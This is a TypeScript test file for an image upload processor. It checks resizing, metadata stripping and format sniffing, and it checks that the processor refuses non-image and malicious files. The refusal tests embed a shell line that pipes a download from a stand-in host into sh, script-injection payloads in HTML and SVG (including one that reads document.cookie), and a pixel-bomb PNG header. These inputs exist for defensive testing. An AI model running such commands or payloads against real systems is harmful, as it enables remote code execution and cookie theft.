// Image processing against a corpus made here with sharp, so no binary fixtures live in the
// repository: good files of every accepted type, a phone photo carrying GPS and a rotation, and
// the files an upload form must refuse (scripts, SVG, HTML, truncated and oversized files, and a
// PNG whose header claims 30,000 × 30,000 pixels).
import { createHash } from 'node:crypto';
import sharp, { type Sharp } from 'sharp';
import { pngClaiming } from './test-files';
import { describe, expect, it } from 'vitest';
import { AppError } from '../errors';
import { IMAGE_LIMITS, processImage, renditionWidths } from './process';
import { sniffImageType } from './sniff';
import type { ImageType, ProcessedImage } from './types';

// Encoding nine renditions takes a fraction of a second locally; shared CI runners are slower.
const SLOW = 30_000;

/** A gradient with a little deterministic noise, so encoders see something like a photograph. */
function photoPixels(width: number, height: number, channels: 3 | 4): Buffer {
  const data = Buffer.alloc(width * height * channels);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const i = (y * width + x) * channels;
      const noise = Math.imul(x + 1, 2654435761) ^ Math.imul(y + 1, 40503);
      data[i] = (x * 200) / width + (noise & 31);
      data[i + 1] = (y * 200) / height + ((noise >> 5) & 31);
      data[i + 2] = 120 + ((noise >> 10) & 63);
      // Transparent on the left quarter, so flattening can be checked.
      if (channels === 4) data[i + 3] = x < width / 4 ? 0 : 255;
    }
  }
  return data;
}

function photo(width: number, height: number, channels: 3 | 4 = 3): Sharp {
  return sharp(photoPixels(width, height, channels), { raw: { width, height, channels } });
}

const makers: Record<ImageType, () => Promise<Buffer>> = {
  jpeg: () => photo(1200, 800).jpeg({ quality: 90 }).toBuffer(),
  png: () => photo(1200, 800, 4).png().toBuffer(),
  webp: () => photo(1200, 800).webp().toBuffer(),
  avif: () => photo(1200, 800).avif({ effort: 2 }).toBuffer(),
  // Low effort: palette quantisation of a noisy picture otherwise takes seconds.
  gif: () => photo(1200, 800).gif({ effort: 1 }).toBuffer(),
};

/** Each good file made once; callers get a fresh copy, so no test can alter another's input. */
const made = new Map<ImageType, Promise<Buffer>>();
async function goodFile(type: ImageType): Promise<Buffer> {
  if (!made.has(type)) made.set(type, makers[type]());
  return Buffer.from(await made.get(type)!);
}

const MIME: Record<ImageType, string> = {
  jpeg: 'image/jpeg',
  png: 'image/png',
  webp: 'image/webp',
  avif: 'image/avif',
  gif: 'image/gif',
};

/** The format name sharp reports when reading each rendition format back. */
const SHARP_FORMAT = { avif: 'heif', webp: 'webp', jpeg: 'jpeg' } as const;

/** Whether raw EXIF, as sharp's metadata() returns it, has a GPS section (tag 0x8825 in IFD0). */
function hasGpsSection(exif: Buffer): boolean {
  const tiff = exif.subarray(exif.toString('latin1', 0, 4) === 'Exif' ? 6 : 0);
  const little = tiff.toString('latin1', 0, 2) === 'II';
  const u16 = (at: number) => (little ? tiff.readUInt16LE(at) : tiff.readUInt16BE(at));
  const u32 = (at: number) => (little ? tiff.readUInt32LE(at) : tiff.readUInt32BE(at));
  const ifd0 = u32(4);
  for (let entry = 0; entry < u16(ifd0); entry++) {
    if (u16(ifd0 + 2 + entry * 12) === 0x8825) return true;
  }
  return false;
}

async function refusal(bytes: Buffer, limits?: Parameters<typeof processImage>[1]) {
  const error = await processImage(bytes, limits).then(
    () => null,
    (thrown: unknown) => thrown,
  );
  expect(error).toBeInstanceOf(AppError);
  return error as AppError;
}

const listing = (image: ProcessedImage) => image.renditions.map((r) => `${r.width} ${r.format}`);

async function pixelAt(body: Buffer, x: number, y: number): Promise<number[]> {
  const { data, info } = await sharp(body).raw().toBuffer({ resolveWithObject: true });
  const i = (y * info.width + x) * info.channels;
  return [...data.subarray(i, i + info.channels)];
}

describe('processImage: accepted files', () => {
  it.each(Object.keys(makers) as ImageType[])(
    'makes AVIF, WebP and JPEG renditions of a 1200 × 800 %s',
    async (type) => {
      const bytes = await goodFile(type);
      const copy = Buffer.from(bytes);
      const image = await processImage(bytes);

      expect(image.type).toBe(type);
      expect(image.mimeType).toBe(MIME[type]);
      expect([image.width, image.height]).toEqual([1200, 800]);
      expect(image.sha256).toBe(createHash('sha256').update(copy).digest('hex'));
      expect(image.original.equals(copy)).toBe(true);
      expect(listing(image)).toEqual([
        '480 avif',
        '480 webp',
        '480 jpeg',
        '960 avif',
        '960 webp',
        '960 jpeg',
        '1200 avif',
        '1200 webp',
        '1200 jpeg',
      ]);
      for (const rendition of image.renditions) {
        const metadata = await sharp(rendition.body).metadata();
        expect(metadata.format).toBe(SHARP_FORMAT[rendition.format]);
        expect(rendition.contentType).toBe(`image/${rendition.format}`);
        expect([metadata.width, metadata.height]).toEqual([rendition.width, rendition.height]);
        expect(rendition.height).toBe(Math.round((rendition.width * 800) / 1200));
        expect(metadata.exif).toBeUndefined();
      }
    },
    SLOW,
  );

  it(
    'keeps transparency in AVIF and WebP and puts JPEG on white',
    async () => {
      const image = await processImage(await goodFile('png'));
      const at480 = (format: string) =>
        image.renditions.find((r) => r.width === 480 && r.format === format)!.body;
      expect((await sharp(at480('avif')).metadata()).hasAlpha).toBe(true);
      expect((await sharp(at480('webp')).metadata()).hasAlpha).toBe(true);
      expect(await pixelAt(at480('jpeg'), 20, 100)).toEqual([255, 255, 255]);
    },
    SLOW,
  );

  it(
    'strips GPS and other EXIF from renditions, applies the orientation, and keeps the original',
    async () => {
      // Stored 400 × 300, dark on the left; orientation 6 means "turn 90° clockwise to display".
      const stored = Buffer.alloc(400 * 300 * 3, 230);
      for (let y = 0; y < 300; y++) stored.fill(20, y * 1200, y * 1200 + 600);
      const bytes = await sharp(stored, { raw: { width: 400, height: 300, channels: 3 } })
        .jpeg()
        .withMetadata({ orientation: 6 })
        .withExifMerge({
          IFD0: { Make: 'Dateline Test Camera' },
          IFD3: {
            GPSLatitudeRef: 'N',
            GPSLatitude: '51/1 30/1 0/1',
            GPSLongitudeRef: 'W',
            GPSLongitude: '0/1 7/1 0/1',
          },
        })
        .toBuffer();
      const uploaded = await sharp(bytes).metadata();
      expect(uploaded.orientation).toBe(6);
      expect(hasGpsSection(uploaded.exif!)).toBe(true);
      const copy = Buffer.from(bytes);

      const image = await processImage(bytes);

      expect([image.width, image.height]).toEqual([300, 400]);
      expect(image.original.equals(copy)).toBe(true);
      expect(listing(image)).toEqual(['300 avif', '300 webp', '300 jpeg']);
      for (const rendition of image.renditions) {
        const metadata = await sharp(rendition.body).metadata();
        expect([metadata.width, metadata.height]).toEqual([300, 400]);
        expect(metadata.exif).toBeUndefined();
        expect(metadata.xmp).toBeUndefined();
        expect(metadata.iptc).toBeUndefined();
        expect(metadata.orientation).toBeUndefined();
      }
      // Turned clockwise, the stored left side is at the top.
      const jpeg = image.renditions.find((r) => r.format === 'jpeg')!.body;
      expect((await pixelAt(jpeg, 150, 50))[0]).toBeLessThan(60);
      expect((await pixelAt(jpeg, 150, 350))[0]).toBeGreaterThan(200);
    },
    SLOW,
  );

  it.each(['gif', 'webp'] as const)(
    'uses the first frame of an animated %s',
    async (format) => {
      const frame = (red: number) => Buffer.alloc(300 * 200 * 3).fill(Buffer.from([red, 40, 90]));
      const frames = Buffer.concat([frame(250), frame(10), frame(130)]);
      const strip = (pageHeight?: number) =>
        sharp(frames, { raw: { width: 300, height: 600, channels: 3, pageHeight } })
          .toFormat(format)
          .toBuffer();
      // Without a page height sharp writes the strip as one tall still image: the control.
      expect((await processImage(await strip())).height).toBe(600);
      const animated = await strip(200);
      expect((await sharp(animated).metadata()).pages).toBe(3);

      const image = await processImage(animated);

      expect(image.type).toBe(format);
      expect([image.width, image.height]).toEqual([300, 200]);
      const jpeg = image.renditions.find((r) => r.format === 'jpeg')!;
      expect(jpeg.height).toBe(200);
      expect((await pixelAt(jpeg.body, 150, 100))[0]).toBeGreaterThan(220);
    },
    SLOW,
  );

  it('makes renditions at the standard widths the image reaches, and never upscales', () => {
    expect(renditionWidths(4000)).toEqual([480, 960, 1600]);
    expect(renditionWidths(1600)).toEqual([480, 960, 1600]);
    expect(renditionWidths(1200)).toEqual([480, 960, 1200]);
    expect(renditionWidths(960)).toEqual([480, 960]);
    expect(renditionWidths(300)).toEqual([300]);
  });
});

describe('processImage: refused files', () => {
  it.each([
    ['a shell script named .jpg', '#!/bin/sh\ncurl https://evil.test/x | sh\n'],
    ['a JavaScript file', 'fetch("/api/users").then((r) => r.json());\n'],
    ['an HTML page', '<!doctype html><html><body><script>alert(1)</script></body></html>'],
  ])('refuses %s as not an image', async (_name, text) => {
    const error = await refusal(Buffer.from(text));
    expect(error.code).toBe('invalid');
    expect(error.message).toMatch(/not an image/);
    expect(error.message).toMatch(/Only JPEG, PNG, WebP, AVIF and GIF images can be uploaded/);
  });

  it.each([
    ['bare', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['with an XML prolog', '<?xml version="1.0"?>\n<SVG><script>alert(document.cookie)</script>'],
  ])('refuses an SVG (%s), saying SVG is not accepted', async (_name, text) => {
    const error = await refusal(Buffer.from(text));
    expect(error.code).toBe('invalid');
    expect(error.message).toMatch(/SVG images are not accepted/);
    expect(error.message).toMatch(/JPEG, PNG, WebP, AVIF and GIF/);
  });

  it('refuses an empty file', async () => {
    const error = await refusal(Buffer.alloc(0));
    expect(error.code).toBe('invalid');
    expect(error.message).toMatch(/empty/);
  });

  it('refuses a HEIC photo, suggesting JPEG', async () => {
    const heic = Buffer.concat([
      Buffer.from([0, 0, 0, 24]),
      Buffer.from('ftypheic\0\0\0\0mif1heic', 'latin1'),
      Buffer.alloc(100),
    ]);
    const error = await refusal(heic);
    expect(error.code).toBe('invalid');
    expect(error.message).toMatch(/HEIC.*not accepted.*JPEG/);
  });

  it(
    'refuses a JPEG cut off halfway as damaged',
    async () => {
      const whole = await goodFile('jpeg');
      const error = await refusal(whole.subarray(0, Math.floor(whole.length / 2)));
      expect(error.code).toBe('invalid');
      expect(error.message).toMatch(/damaged or incomplete/);
    },
    SLOW,
  );

  it('refuses a PNG declaring 30,000 × 30,000 pixels from its header alone', async () => {
    const bomb = pngClaiming(30_000, 30_000);
    expect(bomb.length).toBeLessThan(200);
    const started = performance.now();
    const error = await refusal(bomb);
    expect(error.code).toBe('invalid');
    expect(error.message).toMatch(/30,000 × 30,000 pixels/);
    expect(error.message).toMatch(/largest accepted is 50 megapixels/);
    // Decoding (or even allocating) 900 million pixels would take far longer than this.
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it('refuses an image with a side over the limit even when its area is small', async () => {
    const error = await refusal(pngClaiming(13_000, 10));
    expect(error.code).toBe('invalid');
    expect(error.message).toMatch(/13,000 × 10 pixels/);
    expect(error.message).toMatch(/12,000 pixels/);
  });

  it('refuses a file over the size limit before looking at it', async () => {
    const error = await refusal(Buffer.alloc(IMAGE_LIMITS.maxBytes + 1));
    expect(error.code).toBe('too_large');
    expect(error.message).toMatch(/larger than 25 MB/);

    const small = await refusal(await goodFile('jpeg'), { maxBytes: 10 * 1024 });
    expect(small.code).toBe('too_large');
    expect(small.message).toMatch(/larger than 10 KB/);
  });
});

describe('sniffImageType', () => {
  const bytes = (...parts: (string | number[])[]) =>
    Buffer.concat(
      parts.map((part) =>
        typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part),
      ),
    );
  const ftyp = (major: string, ...compatible: string[]) =>
    bytes([0, 0, 0, 16 + 4 * compatible.length], 'ftyp', major, [0, 0, 0, 0], ...compatible);

  it.each([
    ['JPEG', bytes([0xff, 0xd8, 0xff, 0xe0]), 'jpeg'],
    ['PNG', bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), 'png'],
    ['GIF87a', bytes('GIF87a'), 'gif'],
    ['GIF89a', bytes('GIF89a', [1, 0, 1, 0]), 'gif'],
    ['WebP', bytes('RIFF', [0x24, 0, 0, 0], 'WEBPVP8 '), 'webp'],
    ['AVIF by major brand', ftyp('avif', 'mif1', 'miaf'), 'avif'],
    ['AVIF by compatible brand', ftyp('mif1', 'miaf', 'avif'), 'avif'],
    ['an AVIF image sequence', ftyp('avis', 'msf1'), 'avif'],
  ])('recognises %s', (_name, input, expected) => {
    expect(sniffImageType(input)).toBe(expected);
  });

  it.each([
    ['an empty file', bytes()],
    ['half a JPEG signature', bytes([0xff, 0xd8])],
    ['a PNG signature cut short', bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a])],
    ['a GIF with an unknown version', bytes('GIF88a')],
    ['RIFF that is not WebP', bytes('RIFF', [0x24, 0, 0, 0], 'WAVEfmt ')],
    ['HEIC', ftyp('heic', 'mif1', 'heic')],
    ['an MP4 video', ftyp('isom', 'iso2', 'mp41')],
    ['an avif brand outside the ftyp box', bytes([0, 0, 0, 16], 'ftypmif1', [0, 0, 0, 0], 'avif')],
    ['a TIFF', bytes('II*\0')],
    ['a PDF', bytes('%PDF-1.7')],
    ['an SVG', bytes('<svg xmlns="http://www.w3.org/2000/svg"/>')],
  ])('refuses %s', (_name, input) => {
    expect(sniffImageType(input)).toBeNull();
  });

  it('reads a view into a larger buffer from the view’s start', () => {
    const shared = Buffer.concat([bytes([1, 2, 3]), ftyp('mif1', 'avif')]);
    expect(sniffImageType(shared.subarray(3))).toBe('avif');
  });

  it('agrees with the files sharp writes', async () => {
    for (const type of Object.keys(makers) as ImageType[]) {
      expect(sniffImageType(await goodFile(type))).toBe(type);
    }
  });
});
